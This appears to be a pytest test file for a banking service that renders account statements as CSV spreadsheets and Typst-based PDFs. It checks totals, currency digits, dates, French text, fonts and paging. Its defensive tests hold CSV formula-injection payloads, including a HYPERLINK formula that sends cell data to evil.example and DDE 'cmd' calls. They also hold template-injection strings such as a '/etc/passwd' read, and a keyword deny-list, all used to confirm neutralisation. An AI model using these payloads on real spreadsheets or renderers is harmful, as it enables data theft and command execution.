"""Statements as documents that a person hands to their accountant.

Method: contents are built line by line with their true sums, rendered, and read back by other people's readers (csv of the standard
library, pypdf), so that what is compared is what an accountant would see.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from csv import QUOTE_NONE, reader
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from io import BytesIO, StringIO
from multiprocessing import get_context
from pathlib import Path
from typing import Any

import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from kernel import ids
from kernel.errors import InvalidInput
from kernel.messages import translate
from kernel.money import CURRENCIES, Money
from services import statement_documents
from services.statement_documents import MAXIMUM_LINES, StatementContent, StatementError, StatementLine

KINDS = (
    "TRANSFER", "PAYMENT", "DEPOSIT", "WITHDRAWAL", "FEE", "TAX", "INTEREST", "LOAN_DISBURSEMENT", "LOAN_REPAYMENT", "REVERSAL",
)  # fmt: skip
FIRST_AT = datetime(2026, 1, 2, 9, 0, tzinfo=UTC)
DEBIT, CREDIT, BALANCE = 6, 7, 8

Moved = tuple[int, str, str | None]


def statement(moved: Sequence[Moved] = (), *, currency: str = "NGN", opening_minor: int = 1_000_000, **changes: Any) -> StatementContent:
    """A January of (amount, description, counterparty), a minute apart, whose sums are right."""
    lines, balance = [], opening_minor
    for n, (minor, description, counterparty) in enumerate(moved):
        balance += minor
        booked_at = FIRST_AT + timedelta(minutes=n)
        lines.append(
            StatementLine(
                booked_at=booked_at,
                value_date=booked_at.date(),
                description=description,
                counterparty=counterparty,
                kind=KINDS[n % len(KINDS)],
                amount=Money(minor, currency),
                balance_after=Money(balance, currency),
                transaction_id=ids.encode("txn", ids.entry_id(ids.new_posting(), 1)),
            )
        )
    content = StatementContent(
        number="2026-000123",
        bank_name="Tallystick Demo Bank",
        holder_name="Adébáyọ̀ Ògúnlẹ́sì",
        account_name="Business current account",
        account_number="0123456789",
        currency=currency,
        from_date=date(2026, 1, 1),
        to_date=date(2026, 1, 31),
        opening=Money(opening_minor, currency),
        closing=Money(balance, currency),
        credits=Money(sum(minor for minor, *_ in moved if minor > 0), currency),
        debits=Money(-sum(minor for minor, *_ in moved if minor < 0), currency),
        lines=lines,
        issued_at=datetime(2026, 2, 1, 8, 14, 5, tzinfo=UTC),
        time_zone="Africa/Lagos",
    )
    return replace(content, **changes)


def table(content: StatementContent, *, language: str = "en") -> list[list[str]]:
    text = statement_documents.csv(content, language=language).decode("utf-8-sig")
    return list(reader(StringIO(text, newline=""), strict=True))


def pages(content: StatementContent, *, language: str = "en") -> list[str]:
    document = statement_documents.pdf(content, language=language)
    return [page.extract_text() for page in PdfReader(BytesIO(document)).pages]


def squeezed(text: str) -> str:
    """Without the spaces and line ends that laying out adds and readers guess at."""
    return re.sub(r"[\s\u200b]+", "", text)


def printed(content: StatementContent, *, language: str = "en") -> str:
    return squeezed("".join(pages(content, language=language)))


SALE: Moved = (2_500, "Sale", "Awa")
RENT: Moved = (-1_000, "Rent", "Landlord")
SOUND = statement([SALE, RENT])


@pytest.mark.parametrize(
    "contradiction",
    [
        {"closing": Money(1_001_499, "NGN")},
        {"opening": Money(1_000_001, "NGN")},
        {"credits": Money(2_499, "NGN")},
        {"debits": Money(-1_000, "NGN")},
        {"lines": SOUND.lines[:1]},
        {"lines": [SOUND.lines[1], SOUND.lines[0]]},
        {"lines": [replace(SOUND.lines[0], balance_after=Money(1_002_501, "NGN")), SOUND.lines[1]]},
        {"currency": "KES"},
        {"credits": Money(2_500, "KES")},
        {"to_date": date(2025, 12, 31)},
        {"to_date": date(2026, 1, 1)},
        {"issued_at": datetime(2026, 2, 1)},  # noqa: DTZ001
    ],
)
def test_a_statement_that_contradicts_itself_is_never_rendered(contradiction: dict[str, Any]) -> None:
    content = replace(SOUND, **contradiction)

    for render in (statement_documents.csv, statement_documents.pdf):
        with pytest.raises(StatementError, match="2026-000123"):
            render(content, language="en")


def test_a_statement_of_too_many_transactions_asks_for_a_shorter_period() -> None:
    content = replace(SOUND, lines=[SOUND.lines[0]] * (MAXIMUM_LINES + 1))

    for render in (statement_documents.csv, statement_documents.pdf):
        with pytest.raises(InvalidInput) as refused:
            render(content, language="en")
        assert refused.value.told_in("en").message == "A statement shows at most 10000 transactions. Choose a shorter period."
        assert refused.value.told_in("fr").message == "Un relevé contient au plus 10000 opérations. Choisissez une période plus courte."


@settings(deadline=None)
@given(
    moved=st.lists(st.tuples(st.integers(-(10**15), 10**15), st.text(), st.none() | st.text()), max_size=12),
    currency=st.sampled_from(["XOF", "NGN", "TND"]),
    opening_minor=st.integers(-(10**15), 10**15),
)
def test_a_spreadsheet_reads_back_the_same_amounts_and_texts(moved: list[Moved], currency: str, opening_minor: int) -> None:
    content = statement(moved, currency=currency, opening_minor=opening_minor)
    scale = Decimal(10) ** CURRENCIES[currency].minor_units

    header, opening, *rows, closing = table(content)

    assert header[DEBIT : BALANCE + 1] == ["Debit", "Credit", "Balance"]
    assert (opening[3], closing[3]) == ("Opening balance", "Closing balance")
    assert Decimal(opening[BALANCE]) * scale == opening_minor
    assert Decimal(closing[BALANCE]) * scale == content.closing.minor
    assert {len(row) for row in (header, opening, *rows, closing)} == {13}
    assert len(rows) == len(moved)
    for row, (minor, description, counterparty), line in zip(rows, moved, content.lines, strict=True):
        assert (Decimal(row[CREDIT] or 0) - Decimal(row[DEBIT] or 0)) * scale == minor
        assert (row[DEBIT] == "") != (row[CREDIT] == "")
        assert Decimal(row[BALANCE]) * scale == line.balance_after.minor
        assert row[3].replace("'", "") == shown(description).replace("'", "")
        assert row[4].replace("'", "") == shown(counterparty or "").replace("'", "")
        assert row[9:] == [currency, line.transaction_id, "0123456789", "2026-000123"]


def shown(text: str) -> str:
    """What a reader may expect of a text: all its signs but the controls, with single spaces."""
    kept = "".join(sign for sign in text if not "\u202a" <= sign <= "\u202e" and not "\u2066" <= sign <= "\u2069")
    return " ".join("".join(" " if ord(sign) < 32 or 127 <= ord(sign) < 160 else sign for sign in kept).split())


@pytest.mark.parametrize("text", ["Invoice 7, rice; beans", 'He said "paid"', "10% off = 5", "a@b.example", "Ọláyínká – N’Diaye ɛŋ", "'quoted'"])
def test_harmless_texts_reach_the_spreadsheet_untouched(text: str) -> None:
    assert table(statement([(1, text, text)]))[2][3:5] == [text, text]


FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\u200b=1+1", '"=1+1', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_strangers_formula_is_text_to_the_spreadsheet(text: str) -> None:
    row = table(statement([(1, text, text)]))[2]

    assert row[3] == row[4] == "'" + shown(text)


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@;,\"' \t\r\n\u200b\uff1da1"), max_size=12), st.sampled_from([";", ","]))
def test_no_separator_or_quote_lets_a_text_begin_a_formula(text: str, separator: str) -> None:
    file = statement_documents.csv(statement([(-1, text, text)], opening_minor=5), language="en").decode("utf-8-sig")
    row = file.split("\r\n")[2]
    # Where cells are parted at commas quotes are honoured; a spreadsheet that parts at semicolons meets them in mid-cell, as plain signs.
    cells = next(reader([row])) if separator == "," else next(reader([row], delimiter=";", quoting=QUOTE_NONE))

    assert not [cell for cell in cells if cell.lstrip(' "\u200b')[:1] in tuple("=+-@\uff1d")]


def test_the_file_is_what_rfc_4180_and_excel_want() -> None:
    file = statement_documents.csv(SOUND, language="en")

    assert file.startswith(b"\xef\xbb\xbfBooking date,Booking time (Africa/Lagos),Value date,Description,")
    assert file.endswith(b"\r\n")
    assert file.count(b"\n") == file.count(b"\r\n") == 5


def test_dates_are_iso_and_times_those_of_the_named_zone() -> None:
    late = statement([SALE])
    line = replace(late.lines[0], booked_at=datetime(2026, 1, 30, 23, 30, 15, tzinfo=UTC), value_date=date(2026, 2, 2))
    content = replace(late, lines=[line], to_date=date(2026, 1, 31))

    assert table(content)[2][:3] == ["2026-01-31", "00:30:15", "2026-02-02"]
    assert "31Jan202600:30SaleTransfer·valuedate02Feb2026·Awa25.00" in printed(content)
    assert "Issued1February2026at09:14·DatesandtimesinAfrica/Lagos" in printed(content)


@pytest.mark.parametrize(
    ("currency", "minor", "plain", "english", "french"),
    [
        ("XOF", -1_234_567, "1234567", "1,234,567", "1234567"),
        ("NGN", -1_234_567, "12345.67", "12,345.67", "12345,67"),
        ("TND", -1_234_567, "1234.567", "1,234.567", "1234,567"),
        ("TND", -1, "0.001", "0.001", "0,001"),
    ],
)
def test_amounts_have_the_digits_of_their_currency(currency: str, minor: int, plain: str, english: str, french: str) -> None:
    content = statement([(minor, "Rent", None)], currency=currency, opening_minor=0)

    _, opening, row, closing = table(content)

    assert opening[BALANCE] == Money(0, currency).amount
    assert (row[DEBIT], row[CREDIT], row[BALANCE], closing[BALANCE]) == (plain, "", f"-{plain}", f"-{plain}")
    assert f"RentTransfer{english}-{english}" in printed(content)
    assert f"RentVirement{french}-{french}" in printed(content, language="fr")


HOSTILE = [
    '#read("/etc/passwd")',
    '#eval("1+1") #panic("stop") #import "@preview/x:1.0.0"',
    "*bold* _it_ $x^2$ `raw` <label> @ref = Heading",
    "] [ } { \\ // /* */ #{ } ~ -- --- 'q' \"q\"",
    '"); panic("x',
    '{"statement": "\\u0041"}',
    "-> 10x20 ffi fl",
    "{page} {pages} {0}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_reference_written_as_code_is_printed_as_it_stands(text: str) -> None:
    content = statement([(1, text, f"From {text}")], holder_name=text, account_name=text, bank_name=text)

    assert printed(content).count(squeezed(text)) == 5


def test_the_template_neither_reads_nor_imports_nor_evaluates() -> None:
    template = Path(statement_documents.__file__).with_name("statement.typ").read_text()

    assert re.findall(r"\b(import|include|read|eval|plugin|image|bibliography|csv|yaml|toml|xml|cbor)\b", template) == []
    assert re.findall(r"\bjson\(.*", template) == ["json(bytes(sys.inputs.statement))"]


ODD = [
    "W" * 5_000, "Z" + "\u0301\u0302\u0303" * 500 + "algo", "\u202e00,000,1\u202c", "\ufdfd" * 300, "👨\u200d👩\u200d👧\u200d👦🇳🇬🎂" * 60,
    "x\x00y\x07\x1b[31m\r\n\t\x85\u2028z", "\ud800 lone", "\ufffe\uffff\U0010ffff\ue000", "中文 ኢትዮጵያ ߒߞߏ", "دفعة الإيجار 120 (שלום)",
    "", " ", "\u200b",
]  # fmt: skip


@pytest.mark.parametrize("text", ODD, ids=range(len(ODD)))
def test_no_text_breaks_the_page_or_hides_an_amount(text: str) -> None:
    content = statement([(123_456, text, text), (-654_321, text, text)], holder_name=text, bank_name=text, account_number=text)

    text_of_pages = printed(content)

    assert "1,234.56" in text_of_pages
    assert "11,234.56" in text_of_pages
    assert "6,543.21" in text_of_pages
    assert "Totalsandclosingbalance6,543.211,234.564,691.35" in text_of_pages


@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(exclude_categories=())), st.sampled_from(["en", "fr"]))
def test_any_unicode_at_all_makes_a_document(text: str, language: str) -> None:
    assert statement_documents.pdf(statement([(1, text, text)]), language=language).startswith(b"%PDF-")


def test_a_long_reference_is_cut_on_paper_and_whole_in_the_spreadsheet() -> None:
    text = "rice " * 100 + "end"
    content = statement([(1, text, None)])

    assert table(content)[2][3] == text
    assert squeezed(text[:299]) + "…" in printed(content)


def test_names_of_the_region_are_printed_in_fonts_of_the_project() -> None:
    names = "Ọláyínká, Ɓala Ɗanƙo ƴan, Kɔffi Ŋgɛsan, N’Diaye Œuvre"
    content = statement([(1, f"{names}, نور الدين 🎂 Awáṣẹ", None)])
    page: Any = PdfReader(BytesIO(statement_documents.pdf(content, language="en"))).pages[0]

    fonts = {font.get_object()["/BaseFont"].split("+")[1] for font in page["/Resources"]["/Font"].values()}

    assert fonts == {"NotoSans-Regular", "NotoSans-SemiBold", "NotoSansArabic-Regular", "NotoEmoji-Regular"}
    assert squeezed(names) in squeezed(page.extract_text())
    # Letters that the font composes of a base and marks say in the file what they are, for readers that copy text.
    assert all(f"ActualText<FEFF{ord(letter):04X}".encode() in page.get_contents().get_data() for letter in "ṣẹ")


def test_a_statement_of_many_pages_repeats_its_head_and_counts_them() -> None:
    content = statement([(n + 1, f"Sale {n}", "Awa") for n in range(120)])

    found = [squeezed(page) for page in pages(content)]

    assert len(found) > 3
    for n, page in enumerate(found, start=1):
        assert page.count("DateDescriptionDebitCreditBalance") == 1
        assert f"Page{n}of{len(found)}" in page
        assert "Statement2026-000123·Issued1February2026at09:14" in page
        assert "TallystickDemoBank" in page
        assert "0123456789" in page
        assert "1January2026–31January2026" in page
    assert [int(n) for n in re.findall(r"Sale(\d+)(?:Transfer|[A-Z])", "".join(found))] == list(range(120))
    assert "Sale119" in found[-1]
    assert "Totalsandclosingbalance0.0072.6010,072.60" in found[-1]


def test_an_empty_period_says_so() -> None:
    content = statement(currency="TND", opening_minor=1_234_567)

    _, opening, closing = table(content)

    assert (opening[0], opening[BALANCE], closing[0], closing[BALANCE]) == ("2026-01-01", "1234.567", "2026-01-31", "1234.567")
    assert "Openingbalance1,234.567Notransactionsinthisperiod.31Jan2026Totalsandclosingbalance0.0000.0001,234.567" in printed(content)


def test_a_statement_in_french_is_french_throughout() -> None:
    content = statement([(-1_250_000, "Loyer", "Kɔffi")], currency="XOF", opening_minor=2_000_000)
    content = replace(content, issued_at=datetime(2026, 8, 3, 7, 5, tzinfo=UTC), time_zone="Africa/Dakar")

    text = printed(content, language="fr")
    header, opening, row, _ = table(content, language="fr")

    for words in (
        "Relevé de compte", "Titulaire du compte", "1er janvier 2026 – 31 janvier 2026", "XOF · franc CFA (BCEAO)",
        "Solde d’ouverture2 000 000Total des crédits0Total des débits1 250 000Solde de clôture750 000",
        "Date Libellé Débit Crédit Solde", "02 janv. 2026 09:00 Loyer Virement · Kɔffi 1 250 000 750 000",
        "Relevé 2026-000123 · Émis le 3 août 2026 à 07:05 · Dates et heures : Africa/Dakar", "Page 1 sur 1",
    ):  # fmt: skip
        assert squeezed(words) in text
    assert header[:9] == [
        "Date d’opération", "Heure d’opération (Africa/Dakar)", "Date de valeur", "Libellé", "Contrepartie", "Type", "Débit", "Crédit", "Solde",
    ]  # fmt: skip
    assert (opening[3], row[5], row[DEBIT]) == ("Solde d’ouverture", "Virement", "1250000")


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_of_transaction_has_a_name_in_each_language(kind: str) -> None:
    english = kind.capitalize().replace("_", " ")
    content = statement([SALE])
    content = replace(content, lines=[replace(content.lines[0], kind=kind)])

    assert table(content)[2][5] == english
    assert table(content, language="fr")[2][5] == translate(english, language="fr") != english


def test_the_same_content_gives_the_same_bytes_in_every_thread_and_process() -> None:
    content = statement([(n - 40, f"Sale {n} 🎂", "Awa") for n in range(80)])
    first = statement_documents.pdf(content, language="fr")

    with ThreadPoolExecutor(4) as threads:
        again = list(threads.map(lambda _: statement_documents.pdf(content, language="fr"), range(8)))
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as processes:
        elsewhere = processes.submit(statement_documents.pdf, content, language="fr").result()

    assert {first, elsewhere, *again} == {first}


def test_what_the_document_says_of_itself_comes_from_the_statement() -> None:
    document = PdfReader(BytesIO(statement_documents.pdf(SOUND, language="en")))

    assert document.metadata is not None
    assert (document.metadata.title, document.metadata.author) == ("Account statement 2026-000123", "Tallystick Demo Bank")
    assert document.metadata.creation_date == datetime(2026, 2, 1, 8, 14, 5, tzinfo=UTC)
    assert statement_documents.pdf(SOUND, language="en") != statement_documents.pdf(replace(SOUND, number="2026-000124"), language="en")


def test_memory_does_not_grow_from_statement_to_statement() -> None:
    process = psutil.Process()

    def after(holder: str) -> int:
        statement_documents.pdf(statement([(1, f"{holder} {n}", holder) for n in range(1_000)]), language="en")
        return process.memory_info().rss

    first, *_, last = [after(f"Holder {n}") for n in range(5)]

    # One such document takes some 50 MB while it is made: four that stayed would be 200 MB.
    assert last - first < 60 * 2**20
